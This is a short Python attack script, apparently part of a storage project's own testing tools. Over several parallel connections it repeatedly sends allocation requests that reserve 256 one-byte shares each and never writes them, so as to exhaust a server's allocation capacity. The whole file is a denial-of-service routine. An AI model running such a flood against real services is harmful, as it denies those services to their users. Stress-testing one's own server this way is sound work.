"""Allocations of a byte, more than there are places, never written; again when they are given up."""

from __future__ import annotations

from misc.attack.insiders import lease, line_of, lines
from misc.attack.target import Target, again_and_again, from_command_line
from pipegrid.wire import gbs_cbor_bodies, gbs_paths_headers

NUMBERS = frozenset(range(256))


def attack(target: Target) -> None:
    """Take all places, and go on."""
    with lines(target, 8) as line:
        for turn in again_and_again(target, 0.01):
            line.send([allocation(target, turn, 1)])


def allocation(target: Target, number: int, share_bytes: int) -> bytes:
    """Return a request for 256 uploads, under a secret of their own."""
    return target.requests.request(
        "POST",
        gbs_paths_headers.allocate_path((number % 64).to_bytes(16, "big")),
        *line_of({**lease(number), gbs_paths_headers.UPLOAD_SECRET: b"%d" % (number % 64)}),
        body=gbs_cbor_bodies.pack_allocate(NUMBERS, share_bytes),
    )


if __name__ == "__main__":
    attack(from_command_line(__doc__))
